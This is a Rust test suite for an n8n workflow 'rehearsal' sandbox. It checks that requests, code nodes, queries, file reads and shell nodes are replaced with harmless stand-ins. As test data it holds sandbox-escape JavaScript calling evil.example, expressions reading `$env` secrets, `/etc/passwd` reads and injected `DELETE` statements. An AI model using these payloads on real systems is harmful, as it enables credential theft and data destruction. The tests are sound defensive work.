//! A test that cannot harm: what an obedient agent, a workflow or a project puts into a rehearsal to make something leave n8n.
//! Each case looks at the temporary workflow that the backend was given to run. Cases 240 to 260.

use crate::support::*;
use agentctl::config::{self, Origin};
use agentctl_knowledge::{Knowledge, Skill};
use agentctl_n8n::catalog::{Catalog, build::build_for};
use agentctl_n8n::{Node, Workflow};
use serde_json::{Map, Value, json};
use std::sync::{Arc, Mutex};

fn node(name: &str, kind: &str, version: f64, parameters: Value) -> Value {
    let kind = match kind.starts_with('@') || kind.contains('.') {
        true => kind.to_owned(),
        false => format!("n8n-nodes-base.{kind}"),
    };
    json!({"id": format!("id-{name}"), "name": name, "type": kind, "typeVersion": version, "position": [0, 0], "parameters": parameters})
}

/// Hook → the nodes, one behind the other.
fn line(nodes: Vec<Value>) -> Workflow {
    let mut workflow = Workflow::empty("Orders");
    let hook =
        json!({"httpMethod": "POST", "path": "orders", "responseMode": "lastNode", "options": {}});
    for node in std::iter::once(node("Hook", "webhook", 2.0, hook)).chain(nodes) {
        workflow
            .nodes
            .push(serde_json::from_value::<Node>(node).unwrap());
    }
    let names: Vec<String> = workflow.nodes.iter().map(|n| n.name().to_owned()).collect();
    for pair in names.windows(2) {
        workflow.connect(&pair[0], "main", 0, &pair[1], 0);
    }
    workflow
}

/// What an n8n was given to run, last.
type Given = Arc<Mutex<Option<Workflow>>>;

/// An n8n that holds `orders` and comes through with whatever it is given.
fn n8n(workflow: Workflow) -> (Bench, Arc<MemoryBackend>, Given) {
    let (bench, backend) = Bench::in_memory(built_in().policy.clone());
    backend.put("orders", workflow, false);
    let given = Given::default();
    let kept = given.clone();
    backend.runs_by(move |workflow, payload| {
        *kept.lock().unwrap() = Some(workflow.clone());
        let runs: Map<String, Value> = workflow
            .nodes
            .iter()
            .map(|n| {
                let run = json!([{"startTime": 1, "executionStatus": "success", "source": [], "data": {"main": [[{"json": payload}]]}}]);
                (n.name().to_owned(), run)
            })
            .collect();
        json!({"id": "1", "status": "success", "data": {"resultData": {"runData": runs}}})
    });
    (bench, backend, given)
}

/// One test of the workflow under the built-in policy: its answer, and what the n8n was given.
fn tested(workflow: Workflow, input: Value) -> (Value, Workflow) {
    block_on(async {
        let (mut bench, _backend, given) = n8n(workflow);
        bench.told(begun_with(input));
        let said = bench
            .ok("qa", "rehearse_workflow", json!({"workflow_id": "orders"}))
            .await;
        let copy = given.lock().unwrap().take().unwrap();
        (said, copy)
    })
}

/// The node `N` of this kind is not run, for a reason that begins like this, and nothing is said to have left.
fn simulated(attack: Value, because: &str) {
    let shown = attack.to_string();
    let (said, copy) = tested(line(vec![attack]), json!({}));
    let part = &said["nodes"][1];
    assert_eq!(part["as"], json!("simulated"), "{shown}");
    assert!(
        part["because"].as_str().unwrap().starts_with(because),
        "{shown}: {}",
        part["because"]
    );
    assert_eq!(
        copy.node_by_name("N").unwrap().node_type(),
        "n8n-nodes-base.set",
        "{shown}"
    );
    assert_eq!(
        copy.node_by_name("N").unwrap().credentials(),
        None,
        "{shown}"
    );
    assert_eq!(
        (&said["egress"], &said["test_status"]),
        (&json!([]), &json!("inconclusive")),
        "nothing but the start ran: {shown}"
    );
}

fn code(js: &str) -> Value {
    node("N", "code", 2.0, json!({"jsCode": js}))
}

const MORE: &str = "its code is more than work on data: it ";

#[test]
fn case_240_a_request_with_an_account_is_not_run() {
    for authentication in ["genericCredentialType", "predefinedCredentialType"] {
        let mut get = node(
            "N",
            "httpRequest",
            4.2,
            json!({"url": "https://api.example.com/x", "authentication": authentication, "genericAuthType": "httpHeaderAuth", "nodeCredentialType": "slackApi"}),
        );
        get["credentials"] = json!({"httpHeaderAuth": {"id": "c0", "name": "Header"}});
        simulated(get.clone(), "it would use an account (httpHeaderAuth)");
        // Not even to a host that the user listed.
        let (said, _) = tested(line(vec![get]), json!({"test_hosts": ["api.example.com"]}));
        assert_eq!(said["simulated"], json!(["N"]));
    }
}

#[test]
fn case_241_a_request_leaves_for_a_listed_host_only_and_is_told() {
    let get = |url: &str| node("N", "httpRequest", 4.2, json!({"url": url, "options": {}}));
    simulated(
        get("https://evil.example/x"),
        "it would ask evil.example, which is not on your list",
    );
    let workflow = line(vec![get("https://api.example.com/rates")]);
    let (said, copy) = tested(workflow, json!({"test_hosts": ["api.example.com"]}));
    assert_eq!(
        (&said["ran"], &said["egress"], &said["on"]),
        (
            &json!(["Hook", "N"]),
            &json!([{"node": "N", "by": "host", "host": "api.example.com"}]),
            &json!("copy")
        )
    );
    let options = &copy.node_by_name("N").unwrap().parameters().unwrap()["options"];
    assert_eq!(
        options["redirect"]["redirect"]["followRedirects"],
        json!(false)
    );
}

/// The ways of the attackers of 2026-11-22, each of which sent a POST.
#[test]
fn case_242_code_that_gets_at_the_helpers_is_not_run() {
    for (js, what) in [
        (
            "const t = this; return t['help'+'ers'].httpRequest({method: 'POST', url: 'https://evil.example'})",
            "uses `this`",
        ),
        (
            "return this.\\u0068elpers.httpRequest({url: 'https://evil.example'})",
            "uses `this`",
        ),
        (
            "return (this)['h'+'elpers'].httpRequest({url: 'https://evil.example'})",
            "uses `this`",
        ),
        ("return Reflect.get(this, 'help' + 'ers')", "uses `Reflect`"),
        (
            "return this.helpers.httpRequest({url: 'https://evil.example'})",
            "uses `this`",
        ),
    ] {
        simulated(code(js), &format!("{MORE}{what}"));
    }
}

/// Ways of our own that no pattern over the text would see.
#[test]
fn case_243_code_that_hides_what_it_reaches_for_is_not_run() {
    for (js, what) in [
        ("return items.c\\u006fnstructor", "uses `constructor`"),
        ("return items?.['constructor']", "uses `constructor`"),
        (
            "const k = ['con', 'structor'].join(''); return items.slice()[k]",
            "reads a field by a computed name",
        ),
        (
            "var agentctl\\u0046ield = (of, key) => key; const k = 'a'; return items[k]",
            "has a name of its test, `agentctlField`",
        ),
        (
            "for (const k in {constructor: 1}) return items[k]",
            "uses `constructor`",
        ),
        (
            "const {['con' + 'structor']: F} = items; return F",
            "names a field by something computed",
        ),
        (
            "const {constructor: F} = () => 1; return F('return this')()",
            "uses `constructor`",
        ),
        (
            "Object.defineProperty(items, 'x', {get: () => 1}); return items",
            "calls `Object.defineProperty`",
        ),
        (
            "return {get x() { return 1 }}",
            "declares a getter or a setter",
        ),
        (
            "return (function* () {})",
            "waits for something (`async`) or yields",
        ),
        (
            "return [3, 1].sort({valueOf: $json.f})",
            "has a function called",
        ),
        ("return `${{toString: $json.f}}`", "uses `toString`"),
        (
            "return JSON.parse('{\"a\":1}', function () { return this })",
            "has each value of a text handed on",
        ),
        (
            "return 'x'.replace(/x/, function () { return this })",
            "uses `this`",
        ),
        (
            "this: { fetch('https://evil.example') }",
            "cannot be read as JavaScript",
        ),
        ("a: { break a }", "uses a label"),
        (
            "/* */ } fetch('https://evil.example'); /* */ {",
            "ends the function that it stands in",
        ),
        (
            "return 1 /* <!-- */ + fetch",
            "holds a mark that is read differently",
        ),
        (
            "const Math = {max: $json.f}; return Math.max(1)",
            "gives `Math` a meaning of its own",
        ),
        (
            "let go = () => 1; go = $json.f; return go('https://evil.example')",
            "calls `go`",
        ),
        (
            "return ['https://evil.example'].map($json.f)",
            "has a function called",
        ),
        ("return String.raw`x`", "calls a function by a template"),
        ("return $input.constructor", "uses `constructor`"),
        (
            "return $getWorkflowStaticData('global')",
            "calls `$getWorkflowStaticData`",
        ),
    ] {
        simulated(code(js), &format!("{MORE}{what}"));
    }
    // Where it can be looked at when it runs, the copy looks before it reads: the name of a constructor ends the run.
    let hidden = "const k = ['con', 'structor'].join(''); return items[k]";
    let (_, copy) = tested(line(vec![code(hidden)]), json!({}));
    let copied = copy.node_by_name("N").unwrap().parameters().unwrap()["jsCode"].clone();
    let copied = copied.as_str().unwrap();
    assert!(
        copied.contains("return items[agentctlField(items, k)]"),
        "{copied}"
    );
    let (_, look) = copied.split_once("function agentctlField").unwrap();
    for part in [
        "\"constructor\"",
        "\"__proto__\"",
        "\"toString\"",
        "throw new Error",
    ] {
        assert!(look.contains(part), "{part}: {look}");
    }
    // A language that is not read, code that is computed, and nodes that hold code elsewhere.
    let python = json!({"language": "pythonNative", "pythonCode": "import os"});
    simulated(
        node("N", "code", 2.0, python),
        "with its value of \"language\"",
    );
    simulated(code("={{ $json.js }}"), "with its value of \"jsCode\"");
    simulated(
        node(
            "N",
            "sort",
            1.0,
            json!({"type": "code", "code": "return 0"}),
        ),
        "with its value of \"type\"",
    );
}

#[test]
fn case_244_an_expression_that_is_more_than_data_is_not_run() {
    let shape = |value: &str| {
        let assignments = json!([{"id": "1", "name": "x", "value": value, "type": "string"}]);
        node(
            "N",
            "set",
            3.4,
            json!({"assignments": {"assignments": assignments}, "options": {}}),
        )
    };
    for (value, what) in [
        (
            "={{ $json['con'+'structor'] }}",
            "reads a field by a computed name",
        ),
        (
            "={{ $json.constructor.constructor('return process')() }}",
            "calls something that is no method",
        ),
        (
            "={{ (function () { return this.process })() }}",
            "uses `this`",
        ),
        ("={{ $env.AWS_SECRET_ACCESS_KEY }}", "uses `$env`"),
        ("={{ $secrets.vault.key }} {{ $json.a }}", "uses `$secrets`"),
        (
            "={{ $evaluateExpression('{' + '{ $env }' + '}') }}",
            "calls `$evaluateExpression`",
        ),
        ("={{ '{{ $env.X }}' }}", "cannot be read as JavaScript"),
        (
            "={{ '\\}}' + $env.X }}",
            "has a backslash before its braces",
        ),
        ("{{ $env.X }}", "uses `$env`"),
        ("=&#123;{{ $env.X }}", "uses `$env`"),
    ] {
        let wanted =
            format!("an expression in \"assignments\" is more than work on data: it {what}");
        simulated(shape(value), &wanted);
    }
}

#[test]
fn case_245_no_query_is_run_whatever_it_looks_like() {
    for query in [
        "SELECT app.purge_users()",
        "=select 1{{ String.fromCharCode(59) }} {{ 'DEL'+'ETE' }} FROM users",
        "select 1;--\nDELETE FROM users",
        "select/**/1/*;*/;delete from users",
        "SELECT id FROM orders",
    ] {
        for kind in ["postgres", "mySql", "microsoftSql"] {
            let version = if kind == "microsoftSql" { 1.1 } else { 2.4 };
            let parameters = json!({"operation": "executeQuery", "query": query});
            simulated(
                node("N", kind, version, parameters),
                "it would reach outside of n8n (",
            );
        }
    }
    let sql =
        json!({"mode": "combineBySql", "query": "SELECT * FROM CSV('https://evil.example/x.csv')"});
    simulated(node("N", "merge", 3.0, sql), "with its value of \"mode\"");
}

#[test]
fn case_246_neither_the_n8n_itself_nor_a_read_with_more_in_it_is_asked() {
    let request = |parameters: Value| node("N", "httpRequest", 4.2, parameters);
    let outside = "it would reach outside of n8n (a GET request";
    simulated(
        request(json!({"url": "https://api.example.com/x", "sendBody": true, "jsonBody": "{}"})),
        "it would ask api.example.com",
    );
    for (parameters, because) in [
        (
            json!({"url": "https://api.example.com/x", "sendBody": true}),
            "with a body)",
        ),
        (
            json!({"url": "=https://api.example.com/{{ $json.x }}"}),
            "with computed values)",
        ),
        (
            json!({"url": "https://api.example.com/x", "options": {"proxy": "http://evil.example"}}),
            "with the option \"proxy\")",
        ),
        (json!({"url": "https://api.example.com@evil.example/"}), ")"),
        (
            json!({"url": "https://api.example.com/x", "headerParameters": {"parameters": [{"name": "X-HTTP-Method-Override", "value": "DELETE"}]}}),
            "with headers of its own)",
        ),
    ] {
        let hosts = json!({"test_hosts": ["api.example.com"]});
        let (said, _) = tested(line(vec![request(parameters)]), hosts);
        let told = said["nodes"][1]["because"].as_str().unwrap();
        assert!(
            told.starts_with(outside) && told.ends_with(because),
            "{told}"
        );
        assert_eq!(said["egress"], json!([]));
    }
    // A feed goes wherever it is redirected to.
    for url in ["https://api.example.com/feed", "={{ $json.url }}"] {
        let feed = node("N", "rssFeedRead", 1.1, json!({"url": url}));
        let (said, _) = tested(line(vec![feed]), json!({"test_hosts": ["api.example.com"]}));
        assert_eq!(said["simulated"], json!(["N"]));
    }
}

#[test]
fn case_247_what_acts_is_not_run_in_any_spelling() {
    for (kind, version, parameters) in [
        (
            "httpRequest",
            1.0,
            json!({"url": "https://evil.example", "method": "GET", "requestMethod": "DELETE"}),
        ),
        (
            "httpRequest",
            2.0,
            json!({"url": "https://evil.example", "method": "GET", "requestMethod": "POST"}),
        ),
        (
            "httpRequest",
            4.2,
            json!({"url": "https://evil.example", "method": "={{ 'DE' + 'LETE' }}"}),
        ),
        (
            "httpRequest",
            4.2,
            json!({"url": "https://evil.example", "method": "POST"}),
        ),
        (
            "graphql",
            1.1,
            json!({"endpoint": "https://evil.example", "query": "={{ 'muta' + 'tion' }} { x }"}),
        ),
        (
            "graphql",
            1.1,
            json!({"endpoint": "https://evil.example", "query": "query { x }"}),
        ),
        ("executeCommand", 1.0, json!({"command": "id"})),
        ("ssh", 1.0, json!({"command": "id"})),
        ("ftp", 1.0, json!({"operation": "upload"})),
        ("ftp", 1.0, json!({"operation": "download"})),
        ("git", 1.1, json!({"operation": "clone"})),
        ("editImage", 1.0, json!({"operation": "draw"})),
        ("executeWorkflow", 1.2, json!({})),
        (
            "n8n",
            1.0,
            json!({"resource": "workflow", "operation": "getAll"}),
        ),
        (
            "slack",
            2.3,
            json!({"resource": "channel", "operation": "getAll"}),
        ),
    ] {
        let (said, copy) = tested(line(vec![node("N", kind, version, parameters)]), json!({}));
        assert_eq!(
            (&said["simulated"], &said["egress"]),
            (&json!(["N"]), &json!([])),
            "{kind}"
        );
        assert_eq!(
            copy.node_by_name("N").unwrap().node_type(),
            "n8n-nodes-base.set"
        );
    }
}

#[test]
fn case_248_files_and_variables_of_the_machine_are_not_read() {
    for (kind, version, parameters) in [
        (
            "readWriteFile",
            1.0,
            json!({"operation": "read", "fileSelector": "/etc/passwd"}),
        ),
        ("readBinaryFile", 1.0, json!({"filePath": "/etc/passwd"})),
        ("readBinaryFiles", 1.0, json!({"fileSelector": "/etc/*"})),
        ("html", 1.2, json!({"html": "<b>{{ $env.HOME }}</b>"})),
        (
            "merge",
            3.0,
            json!({"mode": "combineBySql", "query": "SELECT * FROM CSV('/etc/passwd')"}),
        ),
    ] {
        let (said, _) = tested(line(vec![node("N", kind, version, parameters)]), json!({}));
        assert_eq!(said["simulated"], json!(["N"]), "{kind}");
    }
}

/// A project's flow may call all three by itself.
#[test]
fn case_249_create_rehearse_delete_lets_nothing_out() {
    block_on(async {
        let (mut bench, backend, given) = n8n(Workflow::empty("Mine"));
        backend.knows("c0", "Header", "httpHeaderAuth");
        bench.can_ask = false;
        let made = json!({
            "name": "Scratch",
            "nodes": [
                {"name": "Start", "type": "n8n-nodes-base.manualTrigger", "typeVersion": 1, "parameters": {}},
                {"name": "Code", "type": "n8n-nodes-base.code", "typeVersion": 2, "parameters": {"jsCode": "const t = this; return t['help' + 'ers'].httpRequest({url: 'https://evil.example'})"}},
                {"name": "Get", "type": "n8n-nodes-base.httpRequest", "typeVersion": 4.2, "parameters": {
                    "url": "https://evil.example", "authentication": "genericCredentialType", "genericAuthType": "httpHeaderAuth"}},
            ],
            "connections": {
                "Start": {"main": [[{"node": "Code", "type": "main", "index": 0}]]},
                "Code": {"main": [[{"node": "Get", "type": "main", "index": 0}]]},
            },
        });
        let made = bench.ok("builder", "create_workflow", made).await;
        let id = json!({"workflow_id": made["id"]});
        let said = bench.ok("qa", "rehearse_workflow", id.clone()).await;
        assert_eq!(
            (&said["ran"], &said["simulated"], &said["egress"]),
            (&json!(["Start"]), &json!(["Code", "Get"]), &json!([]))
        );
        let copy = given.lock().unwrap().take().unwrap();
        let harmless = [
            "n8n-nodes-base.webhook",
            "n8n-nodes-base.set",
            "n8n-nodes-base.noOp",
        ];
        assert!(
            copy.nodes.iter().all(|n| harmless.contains(&n.node_type())),
            "{copy:?}"
        );
        assert!(copy.nodes.iter().all(|n| n.credentials().is_none()));
    });
}

/// What the user typed, put into an address or a header by the flow that asked for it.
#[test]
fn case_250_what_the_user_typed_goes_into_no_request_of_a_test() {
    for parameters in [
        json!({"url": "https://evil.example/?key=n8n_api_typed"}),
        json!({"url": "https://api.example.com/x", "headerParameters": {"parameters": [{"name": "X-Key", "value": "n8n_api_typed"}]}}),
    ] {
        let workflow = line(vec![node("N", "httpRequest", 4.2, parameters)]);
        let (said, copy) = tested(workflow, json!({"test_hosts": ["api.example.com"]}));
        assert_eq!(said["simulated"], json!(["N"]));
        assert!(!copy.to_text().contains("n8n_api_typed"));
    }
}

#[test]
fn case_251_a_projects_catalog_makes_nothing_harmless() {
    let says = |name: &str, group: &str| {
        json!({"name": name, "displayName": name, "group": [group], "version": [1, 2, 4.2], "description": "", "defaults": {"name": name},
            "inputs": ["main"], "outputs": ["main"], "credentials": [],
            "properties": [{"displayName": "Operation", "name": "operation", "type": "options", "default": "getInfo",
                "options": [{"name": "Get", "value": "getInfo"}]}]})
    };
    let types = json!([
        says("webhook", "trigger"),
        says("ssh", "input"),
        says("set", "input"),
        says("httpRequest", "trigger"),
        says("executeCommand", "transform")
    ]);
    let file = |name: &str, value: Value| (name.to_owned(), value.to_string().into_bytes());
    let package = json!({"name": "n8n-nodes-base", "version": "9.9.9"});
    let files = [file("package.json", package), file("nodes.json", types)];
    let bytes = build_for(&files, None).unwrap();
    let catalog: &'static Catalog = Box::leak(Box::new(
        Catalog::from_bytes(&bytes)
            .unwrap()
            .over(Catalog::embedded()),
    ));
    block_on(async {
        let workflow = line(vec![
            node("Ssh", "ssh", 1.0, json!({"command": "id"})),
            node(
                "Post",
                "httpRequest",
                4.2,
                json!({"method": "POST", "url": "https://evil.example"}),
            ),
            node("Run", "executeCommand", 1.0, json!({"command": "id"})),
        ]);
        let (mut bench, backend, given) = n8n(workflow);
        let knowledge = Knowledge::new(bench.dir.path(), Vec::<Skill>::new());
        bench.gateway = agentctl_n8n_tools::fixture::gateway_on(
            built_in().policy.clone(),
            backend,
            knowledge,
            catalog,
        );
        let said = bench
            .ok(
                "qa",
                "rehearse_workflow",
                json!({"workflow_id": "orders", "start": "Hook"}),
            )
            .await;
        assert_eq!(said["egress"], json!([]));
        let copy = given.lock().unwrap().take().unwrap();
        for dangerous in ["ssh", "httpRequest", "executeCommand"] {
            assert!(
                !copy
                    .to_text()
                    .contains(&format!("n8n-nodes-base.{dangerous}")),
                "{dangerous}"
            );
        }
    });
}

fn needing(kind: &str, version: f64, parameters: Value) -> Value {
    json!({
        "name": "Orders",
        "nodes": [
            {"name": "Start", "type": "n8n-nodes-base.manualTrigger", "typeVersion": 1, "parameters": {}},
            {"name": "N", "type": format!("n8n-nodes-base.{kind}"), "typeVersion": version, "parameters": parameters},
        ],
        "connections": {"Start": {"main": [[{"node": "N", "type": "main", "index": 0}]]}},
    })
}

fn request_with_header() -> Value {
    needing(
        "httpRequest",
        4.2,
        json!({"url": "https://evil.example/x", "authentication": "genericCredentialType", "genericAuthType": "httpHeaderAuth"}),
    )
}

#[test]
fn case_252_an_account_is_attached_by_the_users_word_alone() {
    block_on(async {
        for (kind, account, call) in [
            ("a header", "httpHeaderAuth", request_with_header()),
            (
                "ssh",
                "sshPassword",
                needing("ssh", 1.0, json!({"command": "id"})),
            ),
            (
                "slack",
                "slackApi",
                needing(
                    "slack",
                    2.3,
                    json!({"resource": "message", "operation": "post"}),
                ),
            ),
        ] {
            let (mut bench, backend, _) = n8n(Workflow::empty("Mine"));
            backend.knows("c0", "Ours", account);
            let question = bench
                .asked("builder", "create_workflow", call.clone())
                .await;
            assert_eq!(
                question.recommended,
                Some(json!("none")),
                "{kind}: `--yes` takes none"
            );
            assert!(question.text.contains("\"Ours\""), "{}", question.text);
            assert_eq!(
                question.text.contains("\"https://evil.example/x\""),
                kind == "a header",
                "where it would go is said: {}",
                question.text
            );
            // Nobody to ask, or a no: it stays without, and says which would fit.
            bench.can_ask = false;
            let made = bench.ok("builder", "create_workflow", call).await;
            assert_eq!(
                made["credentials"][0]["candidates"],
                json!([{"id": "c0", "name": "Ours"}])
            );
            let held = backend.held("orders").unwrap();
            assert!(
                held.nodes.iter().all(|n| n.credentials().is_none()),
                "{kind}"
            );
        }
    });
}

#[test]
fn case_253_an_account_named_ahead_goes_to_its_own_service_only() {
    block_on(async {
        let named = json!({"accounts": ["slackApi=Ours", "httpHeaderAuth=Header"]});
        let begun = |call: Value| {
            let named = named.clone();
            async move {
                let (mut bench, backend, _) = n8n(Workflow::empty("Mine"));
                backend.knows("c0", "Ours", "slackApi");
                backend.knows("c1", "Header", "httpHeaderAuth");
                bench.told(begun_with(named));
                bench.can_ask = false;
                let made = bench.ok("builder", "create_workflow", call).await;
                made["credentials"][0].get("taken").cloned()
            }
        };
        let slack = needing(
            "slack",
            2.3,
            json!({"resource": "message", "operation": "post"}),
        );
        assert_eq!(
            begun(slack).await,
            Some(json!({"id": "c0", "name": "Ours"}))
        );
        // The same account on a request to wherever its address says, and one that fits any address.
        let elsewhere = json!({"url": "https://evil.example/x", "authentication": "predefinedCredentialType", "nodeCredentialType": "slackApi"});
        assert_eq!(begun(needing("httpRequest", 4.2, elsewhere)).await, None);
        assert_eq!(begun(request_with_header()).await, None);
    });
}

#[test]
fn case_254_no_shape_of_a_workflow_makes_a_node_run() {
    let post = node(
        "Post",
        "httpRequest",
        4.2,
        json!({"method": "POST", "url": "https://evil.example"}),
    );
    let off = || {
        let mut off = node("Off", "set", 3.4, json!({}));
        off["disabled"] = json!(true);
        off
    };
    // Said to serve a root that is switched off, in the line of items or beside it.
    let mut serving = line(vec![post.clone(), off()]);
    serving.connect("Post", "ai_tool", 0, "Off", 0);
    let mut beside = line(vec![off()]);
    beside
        .nodes
        .push(serde_json::from_value(post.clone()).unwrap());
    beside.connect("Post", "ai_tool", 0, "Off", 0);
    // Two nodes of one name, the harmless one last.
    let mut twice = line(vec![post.clone()]);
    let mut same = node("Post", "set", 3.4, json!({}));
    same["id"] = json!("other");
    twice.nodes.push(serde_json::from_value(same).unwrap());
    for workflow in [serving, beside, twice] {
        let (said, copy) = tested(workflow, json!({}));
        assert!(
            !copy.to_text().contains("evil.example"),
            "{}",
            copy.to_text()
        );
        assert_eq!(said["egress"], json!([]));
    }
}

#[test]
fn case_255_what_stands_in_for_a_node_evaluates_nothing() {
    let condition = json!({"leftValue": "={{ $json.answer }}", "rightValue": "{{ $env.KEY }}", "operator": {"type": "string", "operation": "equals"}});
    let workflow = line(vec![
        node(
            "N",
            "slack",
            2.3,
            json!({"resource": "message", "operation": "post"}),
        ),
        node(
            "If",
            "if",
            2.2,
            json!({"conditions": {"combinator": "and", "conditions": [condition]}}),
        ),
    ]);
    let (_, copy) = tested(workflow, json!({}));
    let stand_in = copy.node_by_name("N").unwrap().parameters().unwrap();
    let output = stand_in["jsonOutput"].as_str().unwrap();
    assert!(
        !output.contains("{{") && !output.starts_with('='),
        "{output}"
    );
    assert!(output.contains("$env.KEY"));
}

#[test]
fn case_256_an_answer_of_a_test_redirects_nobody() {
    for parameters in [
        json!({"respondWith": "redirect", "redirectURL": "https://evil.example"}),
        json!({"respondWith": "text", "options": {"responseCode": 302, "responseHeaders": {"entries": [{"name": "Location", "value": "https://evil.example"}]}}}),
        json!({"respondWith": "={{ 'redirect' }}"}),
    ] {
        let answer = node("N", "respondToWebhook", 1.1, parameters);
        let (said, copy) = tested(line(vec![answer]), json!({}));
        assert_eq!(said["simulated"], json!(["N"]));
        assert!(!copy.to_text().contains("evil.example"));
    }
}

/// A workflow of the run itself may be tried without a copy, but not when more than itself would run.
#[test]
fn case_257_no_other_workflow_is_called_by_a_test() {
    block_on(async {
        for settings in [json!({}), json!({"errorWorkflow": "w9"})] {
            let (mut bench, backend, given) = n8n(Workflow::empty("Mine"));
            let made = json!({
                "name": "Sum",
                "nodes": [
                    {"name": "Hook", "type": "n8n-nodes-base.webhook", "typeVersion": 2, "parameters": {"httpMethod": "POST", "path": "sum", "responseMode": "lastNode", "options": {}}},
                    {"name": "Stop", "type": "n8n-nodes-base.stopAndError", "typeVersion": 1, "parameters": {"errorMessage": "x"}},
                ],
                "connections": {"Hook": {"main": [[{"node": "Stop", "type": "main", "index": 0}]]}},
            });
            bench.ok("builder", "create_workflow", made).await;
            let mut held = backend.held("sum").unwrap();
            held.head.insert("settings".into(), settings.clone());
            backend.put("sum", held, false);
            let said = bench
                .ok("qa", "rehearse_workflow", json!({"workflow_id": "sum"}))
                .await;
            let calls = settings.get("errorWorkflow").is_some();
            assert_eq!(said["on"], json!(if calls { "copy" } else { "as_it_is" }));
            let ran = given.lock().unwrap().take().unwrap();
            assert_eq!(
                ran.head
                    .get("settings")
                    .and_then(|s| s.get("errorWorkflow")),
                None
            );
        }
    });
}

#[test]
fn case_258_a_node_that_was_let_act_is_told_as_what_left() {
    let run = node("Run", "executeCommand", 1.0, json!({"command": "id"}));
    let workflow = line(vec![
        run,
        node("Other", "executeCommand", 1.0, json!({"command": "id"})),
    ]);
    let (said, copy) = tested(workflow, json!({"let_act": ["Run"]}));
    assert_eq!(
        said["egress"],
        json!([{"node": "Run", "by": "let_act", "type": "n8n-nodes-base.executeCommand"}])
    );
    assert_eq!(said["simulated"], json!(["Other"]));
    let name = said["copy"].as_str().unwrap();
    assert!(name.starts_with("agentctl-rehearsal-"), "{name}");
    assert_eq!(copy.name(), name);
}

#[test]
fn case_259_a_project_lists_no_hosts_for_its_tests() {
    let text = "[test]\nallow_hosts = [\"evil.example\"]\n";
    let refused = config::read(text, "agentctl.toml", Origin::Project).unwrap_err();
    assert_eq!(refused.line, 1);
    assert!(
        refused.message.contains("your own config.toml"),
        "{refused}"
    );
    assert!(config::read(text, "config.toml", Origin::User).is_ok());
    let pattern = "[test]\nallow_hosts = [\"*\"]\n";
    assert_eq!(
        config::read(pattern, "config.toml", Origin::User)
            .unwrap_err()
            .line,
        2
    );
}

/// The word for an agent is none for what it may call.
#[test]
fn case_260_a_tool_of_an_agent_that_may_act_is_let_act_by_its_own_name() {
    let mut workflow = line(vec![node(
        "Agent",
        "@n8n/n8n-nodes-langchain.agent",
        2.0,
        json!({}),
    )]);
    let tool = node(
        "Post",
        "httpRequestTool",
        4.2,
        json!({"method": "POST", "url": "https://evil.example"}),
    );
    workflow.nodes.push(serde_json::from_value(tool).unwrap());
    workflow.connect("Post", "ai_tool", 0, "Agent", 0);
    let (said, copy) = tested(workflow.clone(), json!({"let_act": ["Agent"]}));
    assert_eq!(
        (&said["simulated"], &said["egress"]),
        (&json!(["Agent"]), &json!([]))
    );
    assert!(!copy.to_text().contains("evil.example"));
    let (said, _) = tested(workflow, json!({"let_act": ["Agent", "Post"]}));
    assert_eq!(said["egress"].as_array().unwrap().len(), 2);
}
